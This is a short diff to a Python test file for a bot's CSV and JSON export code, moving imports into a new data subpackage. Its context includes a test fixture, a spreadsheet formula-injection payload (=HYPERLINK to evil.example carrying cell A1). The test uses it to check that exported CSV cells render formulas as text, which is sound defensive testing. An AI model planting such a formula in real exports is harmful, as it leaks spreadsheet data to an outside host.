@@ -12,7 +12,7 @@ from datetime import timedelta
 import pytest
 
 from bot.domain.roles import Role
-from bot.services.export import audit_columns, csv_cell, json_line, record_columns, record_rows
+from bot.services.data.export import audit_columns, csv_cell, json_line, record_columns, record_rows
 from tests.conftest import Harness, eventually
 from tests.test_retention import bulk_old_records
 
@@ -115,7 +115,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"key")'  # a key name offboa
 async def test_every_csv_the_product_writes_shows_formulas_as_text(harness: Harness, tmp_path) -> None:
     """`claude-gate audit --format csv`, `usage --format csv` and `usage --csv`, through the real command line: a
     text cell a spreadsheet would run (= + - @, a tab, a carriage return) starts with ', numbers stay numbers."""
-    from bot.services.audit import add_audit
+    from bot.services.data.audit import add_audit
     from bot.store.models import RequestRecord
     from tests.test_cli_parity import cli
 
